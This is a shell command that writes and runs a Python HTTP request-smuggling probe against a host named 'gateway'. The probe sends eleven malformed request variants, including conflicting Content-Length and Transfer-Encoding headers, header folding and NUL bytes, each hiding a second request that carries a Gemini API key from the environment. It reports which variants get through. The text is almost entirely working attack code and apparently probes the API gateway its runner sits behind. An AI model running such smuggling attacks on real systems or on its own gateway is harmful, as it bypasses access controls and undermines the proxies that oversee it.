# Two lengths, chunked bodies, requests in requests.
cat > /tmp/smuggle.py <<'END'
import socket, sys, os
base, token = os.environ['GOOGLE_GEMINI_BASE_URL'], os.environ['GEMINI_API_KEY']
path = '/' + base.split('/', 3)[3] + '/v1beta/models/gemini-2.5-pro:countTokens'
evil = 'GET /smuggled HTTP/1.1\r\nHost: x\r\nx-goog-api-key: ' + token + '\r\n\r\n'
head = 'POST ' + path + ' HTTP/1.1\r\nHost: gateway\r\nx-goog-api-key: ' + token + '\r\ncontent-type: application/json\r\n'
tries = {
  'cl-te': head + 'Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + evil,
  'te-cl': head + 'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n' + evil + '\r\n0\r\n\r\n',
  'two-cl': head + 'Content-Length: 2\r\nContent-Length: 200\r\n\r\n{}' + evil,
  'te-te': head + 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n' + evil,
  'te-odd': head + 'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n' + evil,
  'space': head + 'Content-Length : 2\r\n\r\n{}' + evil,
  'fold': head + 'X-A: b\r\n Content-Length: 2\r\n\r\n{}' + evil,
  'bare-lf': head.replace('\r\n', '\n') + '\n' + evil,
  'nul': head + 'X-A: a\0b\r\n\r\n' + evil,
  'version': head.replace('HTTP/1.1', 'HTTP/9.9') + '\r\n',
  'garbage': '\x16\x03\x01\x02\x00' * 100,
}
for name, text in tries.items():
    s = socket.create_connection(('gateway', 8080), 5); s.settimeout(2)
    s.sendall(text.encode('latin-1'))
    got = b''
    try:
        while len(got) < 65536:
            part = s.recv(4096)
            if not part: break
            got += part
    except (TimeoutError, ConnectionError): pass
    lines = [l for l in got.decode('latin-1').split('\r\n') if l.startswith('HTTP/')]
    print(('HOLE: ' if any(l.split()[1].startswith('2') for l in lines[1:]) else 'held: ') + name, lines)
END
python3 /tmp/smuggle.py
